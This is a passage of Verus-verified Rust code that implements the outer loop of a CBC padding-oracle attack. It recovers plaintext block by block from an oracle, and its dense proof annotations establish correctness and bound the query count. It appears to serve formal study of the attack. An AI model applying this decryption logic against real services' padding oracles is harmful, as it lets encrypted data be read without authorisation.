    if n % BLOCK_LEN != 0 || n < 2 * BLOCK_LEN {
        return Err(AttackError::MalformedCiphertext);
    }
    let nb = n / BLOCK_LEN;
    proof {
        assert(nb * BLOCK_LEN == n);
        assert(nb >= 2);
    }
    let mut out: Vec<u8> = Vec::new();
    let mut b: usize = 0;
    while b < nb - 1
        invariant
            ct@.len() == n,
            !malformed(ct@),
            nb == num_blocks(ct@),
            nb * BLOCK_LEN == n,
            2 <= nb,
            b <= nb - 1,
            out@.len() == b * BLOCK_LEN,
            oracle.reliable() == old(oracle).reliable(),
            forall|c: Seq<u8>| oracle.accepts(c) == old(oracle).accepts(c),
            old(oracle).queries() <= oracle.queries(),
            old(oracle).reliable() ==> forall|bb: int|
                0 <= bb < b ==> chain_accepted(
                    *old(oracle),
                    #[trigger] block_of(ct@, bb),
                    block_of(ct@, bb + 1),
                    reversed(
                        out@.subrange(bb * (BLOCK_LEN as int), (bb + 1) * (BLOCK_LEN as int)),
                    ),
                ),
            forall|m: Seq<u8>|
                #[trigger] msg_recoverable(*old(oracle), ct@, m) ==> (out@ == m.subrange(
                    0,
                    b * (BLOCK_LEN as int),
                ) && oracle.queries() <= old(oracle).queries() + b * (69 * (BLOCK_LEN as int))),
        decreases nb - 1 - b,
    {
        let ghost o1 = *oracle;
        let ghost out0 = out@;
        let prev = copy_block(ct, b);
        let blk = copy_block(ct, b + 1);
        let res = decrypt_block(oracle, &prev, &blk);
        match res {
            Err(fail) => {
                proof {
                    assert forall|m: Seq<u8>|
                        !(#[trigger] msg_recoverable(*old(oracle), ct@, m)) by {
                        if msg_recoverable(*old(oracle), ct@, m) {
                            let mb = m.subrange(
                                b * (BLOCK_LEN as int),
                                (b + 1) * (BLOCK_LEN as int),
                            );
                            assert(recoverable(*old(oracle), block_of(ct@, b as int), block_of(
                                ct@, b as int + 1), mb));
                            lemma_recoverable_stable(*old(oracle), o1, prev@, blk@, mb);
                            assert(false);
                        }
                    }
                    assert forall|m: Seq<u8>|
                        !(#[trigger] recoverable(
                            *old(oracle),
                            block_of(ct@, b as int),
                            block_of(ct@, b as int + 1),
                            m,
                        )) by {
                        if recoverable(*old(oracle), block_of(ct@, b as int), block_of(
                            ct@,
                            b as int + 1,
                        ), m) {
                            lemma_recoverable_stable(*old(oracle), o1, prev@, blk@, m);
                            assert(false);
                        }
                    }
                    if old(oracle).reliable() {
                        assert forall|g2: u8|
                            #[trigger] is_candidate(g2) && g2 >= fail.exhausted_from implies !old(
                            oracle,
                        ).accepts(
                            forge_spec(block_of(ct@, b as int), Seq::<u8>::empty(), g2)
                                + block_of(ct@, b as int + 1),
                        ) by {
                            assert(!o1.accepts(
                                forge_spec(prev@, Seq::<u8>::empty(), g2) + blk@,
                            ));
                            assert(o1.accepts(forge_spec(prev@, Seq::<u8>::empty(), g2) + blk@)
                                == old(oracle).accepts(
                                forge_spec(prev@, Seq::<u8>::empty(), g2) + blk@,
                            ));
                        }
                    }
                }
                return Err(
                    AttackError::ByteUnrecoverable {
                        block_index: b,
                        byte_position: fail.byte_position,
                        exhausted_from: fail.exhausted_from,
                    },
                );
            },
            Ok(pt_blk) => {
                proof {
                    assert forall|m: Seq<u8>|
                        #[trigger] msg_recoverable(*old(oracle), ct@, m) implies pt_blk@
                        == m.subrange(
                        b * (BLOCK_LEN as int),
                        (b + 1) * (BLOCK_LEN as int),
                    ) by {
                        let mb = m.subrange(b * (BLOCK_LEN as int), (b + 1) * (BLOCK_LEN as int));
                        assert(recoverable(*old(oracle), block_of(ct@, b as int), block_of(
                            ct@, b as int + 1), mb));
                        lemma_recoverable_stable(*old(oracle), o1, prev@, blk@, mb);
                    }
                }
                let mut t: usize = 0;
                while t < BLOCK_LEN
                    invariant
                        pt_blk@.len() == BLOCK_LEN,
                        t <= BLOCK_LEN,
                        out@.len() == out0.len() + t,
                        out@ == out0 + pt_blk@.take(t as int),
                    decreases BLOCK_LEN - t,
                {
                    out.push(pt_blk[t]);
                    proof {
                        assert(out@ =~= out0 + pt_blk@.take(t as int + 1));
                    }
                    t = t + 1;
                }
                proof {
                    assert(out@ == out0 + pt_blk@.take(BLOCK_LEN as int));
                    assert(pt_blk@.take(BLOCK_LEN as int) =~= pt_blk@);
                    assert forall|m: Seq<u8>|
                        #[trigger] msg_recoverable(*old(oracle), ct@, m) implies (out@
                        == m.subrange(0, (b + 1) * (BLOCK_LEN as int)) && oracle.queries()
                        <= old(oracle).queries() + (b + 1) * (69 * (BLOCK_LEN as int))) by {
                        assert(out0 == m.subrange(0, b * (BLOCK_LEN as int)));
                        assert(pt_blk@ == m.subrange(
                            b * (BLOCK_LEN as int),
                            (b + 1) * (BLOCK_LEN as int),
                        ));
                        assert(out0 + pt_blk@ =~= m.subrange(0, (b + 1) * (BLOCK_LEN as int)));
                        let mb = m.subrange(b * (BLOCK_LEN as int), (b + 1) * (BLOCK_LEN as int));
                        assert(recoverable(*old(oracle), block_of(ct@, b as int), block_of(
                            ct@, b as int + 1), mb));
                        lemma_recoverable_stable(*old(oracle), o1, prev@, blk@, mb);
                        assert(oracle.queries() <= o1.queries() + 69 * (BLOCK_LEN as int));
                        assert(o1.queries() <= old(oracle).queries() + b * (69 * (
                        BLOCK_LEN as int)));
                        assert((b + 1) * (69 * (BLOCK_LEN as int)) == b * (69 * (BLOCK_LEN as int))
                            + 69 * (BLOCK_LEN as int)) by (nonlinear_arith);
                    }
                    if old(oracle).reliable() {
                        assert forall|bb: int| 0 <= bb < b + 1 implies chain_accepted(
                            *old(oracle),
                            #[trigger] block_of(ct@, bb),
                            block_of(ct@, bb + 1),
                            reversed(
                                out@.subrange(
                                    bb * (BLOCK_LEN as int),
                                    (bb + 1) * (BLOCK_LEN as int),
                                ),
                            ),
                        ) by {
                            if bb < b {
                                assert(out@.subrange(
                                    bb * (BLOCK_LEN as int),
                                    (bb + 1) * (BLOCK_LEN as int),
                                ) =~= out0.subrange(
                                    bb * (BLOCK_LEN as int),
                                    (bb + 1) * (BLOCK_LEN as int),
                                ));
                            } else {
                                assert(out@.subrange(
                                    bb * (BLOCK_LEN as int),
                                    (bb + 1) * (BLOCK_LEN as int),
                                ) =~= pt_blk@);
                                let rp = reversed(pt_blk@);
                                assert(chain_accepted(o1, prev@, blk@, rp));
                                assert forall|k: int| 0 <= k < rp.len() implies #[trigger] old(
                                    oracle,
                                ).accepts(
                                    forge_spec(block_of(ct@, bb), rp.take(k), rp[k]) + block_of(
                                        ct@,
                                        bb + 1,
                                    ),
                                ) by {
                                    assert(o1.accepts(
                                        forge_spec(prev@, rp.take(k), rp[k]) + blk@,
                                    ));
                                    assert(o1.accepts(
                                        forge_spec(prev@, rp.take(k), rp[k]) + blk@,
                                    ) == old(oracle).accepts(
                                        forge_spec(prev@, rp.take(k), rp[k]) + blk@,
                                    ));
                                }
                            }
                        }
                    }
                }
            },
        }
        b = b + 1;
    }
    proof {
        assert forall|m: Seq<u8>|
            #[trigger] msg_recoverable(*old(oracle), ct@, m) implies out@ == m by {
            assert(out@ == m.subrange(0, (nb - 1) * (BLOCK_LEN as int)));
            assert(m.subrange(0, (nb - 1) * (BLOCK_LEN as int)) =~= m);
        }
    }
    Ok(out)
}

} // verus!
